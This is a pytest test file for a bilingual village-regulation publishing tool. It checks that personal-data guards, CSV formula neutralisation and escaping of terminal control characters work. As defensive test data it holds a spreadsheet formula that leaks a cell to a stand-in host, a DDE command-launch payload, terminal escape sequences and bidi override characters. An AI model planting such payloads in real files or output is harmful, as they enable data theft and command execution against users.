"""Every field is checked, every output is safe.

- The content guards (plugins/regpub/guards.py: personal data, control characters) run on every
  value of every file: the test walks every value of a data set that uses every field of the
  schema, poisons each value in turn and expects the loader to name that file and line.
- Phone and ID-card numbers are found in the forms people type them; ordinary numbers of a
  regulation (article numbers, dates, amounts, areas, points, division codes) are not.
- The CSV files never carry a formula; the JSON keeps the text as it is.
- Messages printed by `--check` and the importer show control characters escaped.
"""
from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from regpub import lock, opendata, site
from regpub.fields import Context, Fields
from regpub.guards import find_personal_data
from regpub.importing import main as import_main
from regpub.load import DataError, load
from regpub.problems import Problem, printable
from regpub.readers.text import text_of
from regpub.render import Renderer
from regpub.yamlsource import text_digest

ROOT = Path(__file__).resolve().parent.parent
PLUGIN = ROOT / "plugins" / "regpub"

# -- personal data: what is caught, what is not ----------------------------------------------------

CAUGHT = {
    # the forms of the issue
    "spaced ID card": ("身份证号540235 19800101 123X", "ID-card number", "540***********123X"),
    "full-width ID card": ("５４０２３５１９８００１０１１２３Ｘ", "ID-card number", "540***********123X"),
    "Tibetan digits": ("ངོ་སྤྲོད་ལག་ཁྱེར། ༥༤༠༢༣༥༡༩༨༠༠༡༠༡༡༢༣༤", "ID-card number", "540***********1234"),
    "+86 spaced": ("联系 +86 138 1234 5678", "phone number", "138****5678"),
    "hyphenated mobile": ("138-1234-5678", "phone number", "138****5678"),
    "+86 joined": ("+8613812345678", "phone number", "138****5678"),
    "bracketed area code": ("（0892）8821234", "phone number", "089****1234"),
    "spaced area code": ("0892 8821234", "phone number", "089****1234"),
    # and their neighbours
    "plain ID card in text": ("举报人540235199001011234", "ID-card number", "540***********1234"),
    "ID card in groups of four": ("5402 3519 8001 0112 3X", "ID-card number", "540***********123X"),
    "old 15-digit ID card": ("身份证号：540235800101123", "ID-card number", "540********1123"),
    "plain mobile in text": ("发现火情请拨打13908921234报告", "phone number", "139****1234"),
    "full-width mobile": ("电话１３８１２３４５６７８", "phone number", "138****5678"),
    "Tibetan-digit mobile": ("ཁ་པར། ༡༣༨༡༢༣༤༥༦༧༨", "phone number", "138****5678"),
    "0086 prefix": ("0086 138 1234 5678", "phone number", "138****5678"),
    "full-width +86": ("＋８６ １３８ １２３４ ５６７８", "phone number", "138****5678"),
    "dotted mobile": ("138.1234.5678", "phone number", "138****5678"),
    "ASCII brackets and hyphen": ("(0892) 882-1234", "phone number", "089****1234"),
    "hyphenated landline": ("0892-8821234", "phone number", "089****1234"),
    "Beijing landline": ("010-62345678", "phone number", "010****5678"),
    "local number after 电话": ("值班电话：8821234", "phone number", "88***34"),
    "number after an article number": ("第3条 138 1234 5678", "phone number", "138****5678"),
    "number after an amount": ("罚款500 13812345678", "phone number", "138****5678"),
    "in an id": ("m-13812345678", "phone number", "138****5678"),
}


@pytest.mark.parametrize("text, kind, masked", CAUGHT.values(), ids=CAUGHT.keys())
def test_personal_data_is_found_however_it_is_written(text, kind, masked):
    found = find_personal_data(text)
    assert found is not None, text
    assert (found.kind, found.masked) == (kind, masked)


NOT_PERSONAL = {
    "article number": "依照第12条处理",
    "article range": "第12条至第15条",
    "ISO date": "2025-05-01起施行",
    "Chinese date": "2025年5月1日",
    "dotted date": "2025.05.01",
    "two dates": "2019-08-08 2020-03-01 2025-05-10",
    "date range": "2025-05-01—2025-12-31",
    "year range": "2019-2025年",
    "amount": "罚款500元",
    "amount with comma": "罚款1,000元",
    "large amount": "补助20000元",
    "very large amount": "总投资100,000,000元",
    "area": "1.5亩",
    "square metres": "200平方米",
    "points": "扣-10分",
    "county division code": "540235000000",
    "village division code": "540235900201",
    "two division codes": "540235000000 540235900201",
    "counts": "全村共1380户5678人",
    "times": "8:00-12:00",
    "decimal list": "13.5 14.5 15.5",
    "number list": "100 200 300 400",
    "year list": "2019 2020 2021 2022",
    "hotline without enough digits": "热线电话12345",
    "a document number": "第1380001234号",
    "an amount of 8 digits": "2025年度12345678元",
    "16 digits": "5402351980010112",
    "20 digits": "54023519800101123456",
    "18 digits with a birth date that does not exist": "540235198013011234",
    "18 digits with a birth date in the future": "540235209901011234",
    "sha256": "3a13812345678b9f0c540235198001011234ee51d2a7c09b7e1f2c3d4e5f60718",
    "version": "1.5.2",
    "a village code and three digits": "编号540235900201001",
}


@pytest.mark.parametrize("text", NOT_PERSONAL.values(), ids=NOT_PERSONAL.keys())
def test_ordinary_numbers_are_not_personal_data(text):
    assert find_personal_data(text) is None


@pytest.mark.sample_data
def test_no_value_of_the_shipped_data_is_taken_for_personal_data():
    """The false-positive rate on real text: every value of every shipped file passes."""
    values = [(path, value) for path in sorted((ROOT / "regulations").rglob("*.yaml"))
              for _, value, _ in scalars(path.read_text(encoding="utf-8"))]
    assert len(values) > 5000
    assert [(p.name, v) for p, v in values if find_personal_data(v)] == []


# -- every value of every file -------------------------------------------------------------------

CORRECTIONS = """\
corrections:
  - file: villages/tashi/2020-03-01.yaml
    date: 2020-04-01
    sha256: {sha256}
    reason: {zh: 更正笔误。, bo: "ཡི་གེའི་ནོར་འཁྲུལ་བཅོས།", bo_status: draft}
"""

WITHDRAWN = """\
withdrawn:
  - file: villages/norbu/2026-01-01.yaml
    date: 2026-02-01
    reason: {zh: 程序不合规，予以撤回。, bo: "ལམ་ལུགས་དང་མི་མཐུན་པས་ཕྱིར་འཐེན།", bo_status: draft}
"""


def replace_once(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"{old!r} is not once in {path.name}"
    path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture
def every_field(mini_data: Path) -> Path:
    """The mini data set with the optional fields it lacks: township and village aliases, a
    correction, a withdrawn revision, an outdated translation, a revision with a preamble, a
    closing, an in-force date and a deleted article's reason. (Review records, provisions,
    measures and supervision groups are in it already.)"""
    divisions = mini_data / "divisions.yaml"
    replace_once(divisions, "    pinyin: ceshi\n", "    pinyin: ceshi\n    aliases: [测试, ceshixiang]\n")
    replace_once(divisions, "        pinyin: luobu\n",
                 "        pinyin: luobu\n        aliases: [罗布, 罗布居委会]\n")
    review = mini_data / "villages/norbu/2025-10-01.yaml"
    replace_once(review, "bo: \"སྙན་སྐྱེལ་ཡུལ་གསལ་པོར་བཀོད།\", bo_status: draft}",
                 "bo: \"སྙན་སྐྱེལ་ཡུལ་གསལ་པོར་བཀོད།\", bo_status: outdated, bo_was: 明确报告对象。}")
    # Publish (lock) every revision and one more, then withdraw that one and correct another.
    withdrawn = mini_data / "villages/norbu/2026-01-01.yaml"
    withdrawn.write_text(review.read_text(encoding="utf-8").replace(
        "adopted: 2025-10-01", "adopted: 2026-01-01").replace("filed: 2025-10-12", "filed: 2026-01-12"),
        encoding="utf-8")
    lock.write_lock(mini_data, load(mini_data))
    withdrawn.unlink()
    (mini_data / "withdrawn.yaml").write_text(WITHDRAWN, encoding="utf-8")
    corrected = mini_data / "villages/tashi/2020-03-01.yaml"
    replace_once(corrected, "zh: 草场实行轮牧。", "zh: 草场实行划区轮牧。")
    digest = text_digest(corrected.read_bytes())
    (mini_data / "corrections.yaml").write_text(CORRECTIONS.replace("{sha256}", digest),
                                                encoding="utf-8")
    # A later, unlocked revision with the revision-level fields the fixture lacks: a preamble, a
    # closing, an in-force date and the reason for a deleted article.
    amended = (mini_data / "villages/tashi/2025-05-10.yaml").read_text(encoding="utf-8")
    amended = amended.replace("adopted: 2025-05-10", "adopted: 2026-02-01\nin_force: 2026-03-01")
    amended = amended.replace("filed: 2025-05-20", "filed: 2026-02-10")
    amended = amended.split("  - id: ecology")[0] + (
        'preamble: {zh: 为建设美丽乡村，制定本村规民约。, bo: "གྲོང་གསེབ་མཛེས་སྡུག་འཛུགས་ཆེད་སྒྲིག་ཁྲིམས་འདི་བཟོས།", bo_status: draft}\n'
        "closing:\n"
        '  - {zh: 扎西村村民代表大会, bo: "བཀྲ་ཤིས་གྲོང་ཚོའི་དམངས་འཐུས་ཚོགས་ཆེན།", bo_status: draft}\n'
        "removed:\n"
        "  - article: grazing\n"
        '    reason: {zh: 并入村草场管理办法。, bo: "གྲོང་ཚོའི་རྩྭ་ཐང་དོ་དམ་ཐབས་ལམ་ནང་བསྡུས།", bo_status: draft}\n')
    (mini_data / "villages/tashi/2026-02-01.yaml").write_text(amended, encoding="utf-8")
    load(mini_data)  # valid as it is
    return mini_data


def scalars(text: str):
    """(key path, value, node) of every single value in a YAML text: mapping values and list
    items, in the order of the file. Keys are not values (an unknown key is refused anyway)."""
    def walk(node, path):
        if isinstance(node, yaml.MappingNode):
            for key, value in node.value:
                yield from walk(value, f"{path}.{key.value}" if path else key.value)
        elif isinstance(node, yaml.SequenceNode):
            for item in node.value:
                yield from walk(item, f"{path}[]")
        elif isinstance(node, yaml.ScalarNode):
            yield path, node.value, node

    root = yaml.compose(text)
    return list(walk(root, "")) if root is not None else []


def poisoned(text: str, node: yaml.ScalarNode, payload: str) -> str:
    """`text` with the value of `node` followed by `payload`, on the same line (double-quoted,
    with JSON's escapes, which YAML's double quotes read the same)."""
    start, end = node.start_mark.index, node.end_mark.index
    return text[:start] + json.dumps(node.value + payload) + text[end:]


# A phone number with a direction override; an ID card with a bell: each load checks one form of
# personal data and one control character.
PAYLOADS = {"phone and U+202E": " 电话 +86 138 1234 5678 \u202e",
            "ID card and BEL": " 540235 19800101 123X \x07"}
HIDDEN = ("138 1234 5678", "13812345678", "19800101", "540235198001011234")


def value_sites(root: Path):
    for path in sorted(root.rglob("*.yaml")):
        text = path.read_text(encoding="utf-8")
        for key, _, node in scalars(text):
            yield path, key, node


def test_every_value_of_every_file_is_guarded(every_field: Path):
    sites = list(value_sites(every_field))
    assert len(sites) > 230
    missed = []
    for path, key, node in sites:
        original = path.read_text(encoding="utf-8")
        shown = "regulations/" + path.relative_to(every_field).as_posix()
        line = node.start_mark.line + 1
        for payload in PAYLOADS.values():
            path.write_text(poisoned(original, node, payload), encoding="utf-8")
            try:
                load(every_field)
                problems = []
            except DataError as e:
                problems = e.problems
            here = {p.rule for p in problems if (p.path, p.line) == (shown, line)}
            if not {"personal-data", "control-character"} <= here:
                missed.append(f"{shown}:{line} {key} ({payload!r}): {sorted(here)}")
            for p in problems:
                message = str(p)
                assert not any(number in message for number in HIDDEN), message
                assert "\x07" not in message and "\u202e" not in message, message
        path.write_text(original, encoding="utf-8")
    assert missed == []


# The fields an issue named, and the keys every file of the schema has: the walk above covers them.
NEIGHBOURS = {
    "divisions.yaml": {"townships[].aliases[]", "townships[].villages[].aliases[]",
                       "townships[].villages[].name.zh", "townships[].villages[].pinyin",
                       "townships[].code", "county.name.bo"},
    "phrases.yaml": {"themes[].name.zh", "phrases[].explanation.bo", "phrases[].zh"},
    "points.yaml": {"measures[].name.zh", "measures[].id", "range.min"},
    "supervision.yaml": {"groups[].roles.member", "groups[].enforcement[].article",
                         "groups[].enforcement[].dissuaded"},
    "villages/norbu/2025-10-01.yaml": {
        "chapters[].title.zh", "review.feedback[].text.zh", "review.feedback[].why.bo",
        "review.meetings[].id", "review.meetings[].participants",
        "chapters[].articles[].provisions[].condition.zh",
        "chapters[].articles[].provisions[].measures[]", "chapters[].articles[].reason.zh",
        "chapters[].articles[].feedback[]", "chapters[].articles[].phrases[]", "votes.for",
        "filed", "body.zh"},
    "corrections.yaml": {"corrections[].reason.zh", "corrections[].file", "corrections[].sha256"},
    "withdrawn.yaml": {"withdrawn[].reason.bo", "withdrawn[].file", "withdrawn[].date"},
}


def test_the_walk_reaches_the_fields_named_in_the_issue(every_field: Path):
    walked: dict[str, set[str]] = {}
    for path, key, _ in value_sites(every_field):
        walked.setdefault(path.relative_to(every_field).as_posix(), set()).add(key)
    for name, keys in NEIGHBOURS.items():
        assert keys <= walked[name], (name, keys - walked[name])


def kind_of(path: str) -> str:
    """Revision files are one kind; every other file is its own."""
    return "revision" if "/villages/" in path else Path(path).name


def test_the_data_set_uses_every_field_the_loader_reads(every_field: Path, monkeypatch):
    """Every field the loader asks for, present or not, is in the data set the walk poisons:
    a new field of the schema must be added to it (in the fixtures or `every_field`). The
    fields of a bilingual text (zh, bo, bo_status ...) are read by one function for every
    file: they must be somewhere; the other fields in each kind of file."""
    asked: dict[str, set[str]] = {}
    node_of = Fields.node_of

    def recording(self, name, required):
        asked.setdefault(kind_of(self.ctx.path), set()).add(name)
        return node_of(self, name, required)

    monkeypatch.setattr(Fields, "node_of", recording)
    text_of(Fields.of(yaml.compose("zh: 文"), Context("a text", []), "text"))
    text_fields = asked.pop("a text")
    load(every_field)
    present: dict[str, set[str]] = {}
    for path, key, _ in value_sites(every_field):
        present.setdefault(kind_of(path.as_posix()), set()).update(re.split(r"[.\[\]]+", key))
    assert set(asked) == set(present)  # every file was read, and only these
    assert {kind: names - present[kind] - text_fields for kind, names in asked.items()} == \
        {kind: set() for kind in asked}
    assert text_fields - set().union(*present.values()) == set()


def test_an_alias_is_checked_like_any_text(every_field: Path):
    edit = every_field / "divisions.yaml"
    text = edit.read_text(encoding="utf-8")
    edit.write_text(text.replace("aliases: [罗布, 罗布居委会]", 'aliases: [罗布, "罗布 13812345678", "\\e]0;x\\a"]'),
                    encoding="utf-8")
    with pytest.raises(DataError) as error:
        load(every_field)
    found = [(p.rule, p.line) for p in error.value.problems]
    assert ("personal-data", 23) in found and ("control-character", 23) in found
    message = next(str(p) for p in error.value.problems if p.rule == "personal-data")
    assert "village 'norbu': an item of 'aliases' contains what looks like a phone number: " \
           "138****5678 (" in message


@pytest.mark.parametrize("count, rule, says", [
    ('"5\\a"', "control-character", "U+0007"),
    ("138 1234 5678", "personal-data", "phone number: 138****5678"),
    ("扎西", "personal-data", "looks like a person's name"),
    ("²", "wrong-type", "not a head-count"),
    ("５", "wrong-type", "not a head-count"),
    ("[5]", "wrong-type", "must be a single value"),
    ("1" * 5000, "out-of-range", "has 5000 digits"),
])
def test_a_head_count_is_a_number_and_nothing_else(mini_data: Path, count, rule, says):
    path = mini_data / "supervision.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("member: 5}", f"member: {count}}}"),
                    encoding="utf-8")
    with pytest.raises(DataError) as error:
        load(mini_data)
    [problem] = [p for p in error.value.problems if p.rule == rule]
    assert problem.line == 5 and says in str(problem)


# -- spreadsheets never run a formula --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("禁止=1", "禁止=1"), (" =1", " =1"), ("", "")])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(text, cell):
    assert opendata.neutralise(text) == cell


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_in_the_data_reach_the_csv_as_text_and_the_json_as_written(mini_data: Path):
    revision = mini_data / "villages/norbu/2025-10-01.yaml"
    text = revision.read_text(encoding="utf-8")
    text = text.replace("冬春季节严禁在草场野外用火。", FORMULA.replace('"', '\\"').join('""'))
    text = text.replace("在草场野外用火的", "-在草场野外用火的")
    revision.write_text(text, encoding="utf-8")
    divisions = mini_data / "divisions.yaml"
    divisions.write_text(divisions.read_text(encoding="utf-8").replace(
        "name: {zh: 罗布村}", 'name: {zh: "@罗布村"}\n        aliases: ["=1+1"]'), encoding="utf-8")
    county = load(mini_data)
    files = opendata.files(county, "https://example.org/nyalam/")

    rows = [r for r in csv_rows(files["data/articles.csv"]) if r["village_id"] == "norbu"]
    assert {r["village_zh"] for r in rows} == {"'@罗布村"}
    assert "'" + FORMULA in {r["zh"] for r in rows}
    points = [r for r in csv_rows(files["data/points.csv"]) if r["village_id"] == "norbu"]
    fire = [r for r in points if r["article_id"] == "fire"]
    assert [(r["points"], r["condition_zh"]) for r in fire] == [
        ("-10", "'-在草场野外用火的"), ("3", "及时扑灭或报告火情的")]
    assert all(r["number"].isdigit() for r in points)
    assert all(not cell.startswith(opendata.FORMULA_START) for r in rows + points
               for column, cell in r.items() if column not in opendata.NUMBER_COLUMNS)

    village = json.loads(files["data/villages/norbu.json"])
    assert village["village"]["name"]["zh"] == "@罗布村"
    articles = [a for c in village["revisions"][-1]["chapters"] for a in c["articles"]]
    assert FORMULA in [a["zh"] for a in articles]


@pytest.mark.parametrize("lang, says", [("zh", "英文单引号 '"), ("bo", "' རྟགས་")])
def test_the_data_page_says_how_formula_cells_are_written(mini_data: Path, lang, says):
    spec = site.PageSpec("data/", "data.html")
    _, body = Renderer(load(mini_data), site_url="https://example.org/nyalam/").render(spec, lang)
    sentence = next(li for li in re.findall(r"<li>(.*?)</li>", body) if "=" in li and "@" in li)
    assert says in html.unescape(sentence) and "JSON" in sentence


# -- messages never drive the terminal -------------------------------------------------------------

TERMINAL = "\x1b]0;pwned\x07\x1b[2J"  # set the window title, ring, clear the screen


def test_printable_escapes_controls_and_invisible_characters():
    assert printable("a\x1b[2Jb\x07c\u202ed\ufeffe\x9bf") == \
        "a\\x1b[2Jb\\x07c<U+202E>d<U+FEFF>e\\x9bf"
    assert printable("扎西村 བཀྲ་ཤིས། 　全角") == "扎西村 བཀྲ་ཤིས། 　全角"
    assert printable("one\ntwo\x07", lines=True) == "one\ntwo\\x07"
    assert str(Problem("a.yaml", 3, f"x {TERMINAL}", "h", "r")) == \
        "a.yaml:3: x \\x1b]0;pwned\\x07\\x1b[2J (h) [r]"


def test_check_prints_a_terminal_sequence_of_the_data_escaped(mini_data: Path):
    path = mini_data / "villages/tashi/2025-05-10.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("zh: 草场实行轮牧，禁止超载放牧。",
                                 'zh: "草场实行轮牧，禁止超载放牧。\\e]0;pwned\\a\\e[2J"'), encoding="utf-8")
    result = subprocess.run([sys.executable, str(ROOT / "build.py"), "--check", "--data",
                             str(mini_data)], capture_output=True, text=True, cwd=ROOT)
    out = result.stdout + result.stderr
    assert result.returncode != 0
    assert "\x1b" not in out and "\x07" not in out
    assert "regulations/villages/tashi/2025-05-10.yaml:23:" in out
    assert "contains the control or invalid character U+001B" in out


def test_the_importer_prints_a_terminal_sequence_of_the_document_escaped(mini_data, tmp_path,
                                                                         capsys):
    document = tmp_path / "扎西村.txt"
    document.write_text("\n".join([
        f"说明{TERMINAL}",  # a line it cannot place: echoed in the summary
        "扎西村村规民约",
        "第一条 为维护本村稳定和谐，制定本村规民约。",
        f"第二条 草场实行轮牧，禁止超载放牧。{TERMINAL}"]), encoding="utf-8")
    code = import_main([str(document), "--data", str(mini_data), "--village", "tashi",
                        "--date", "2026-03-01"])
    out, err = capsys.readouterr()
    assert code == 1  # the control characters are refused in the article
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "[control-character]" in err and "(from line 4 of 扎西村.txt)" in err

    document.write_text("\n".join([f"说明{TERMINAL}", "扎西村村规民约",
                                   "第一条 为维护本村稳定和谐，制定本村规民约。"]), encoding="utf-8")
    code = import_main([str(document), "--data", str(mini_data), "--village", "tashi",
                        "--date", "2026-03-01"])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "line 1: 说明\\x1b]0;pwned\\x07\\x1b[2J" in out


def test_the_importer_escapes_what_it_refuses(mini_data, capsys):
    code = import_main(["x.txt", "--data", str(mini_data), "--village", f"tashi{TERMINAL}",
                        "--date", "2026-03-01"])
    _, err = capsys.readouterr()
    assert code == 1 and "\x1b" not in err and "tashi\\x1b]0;pwned" in err
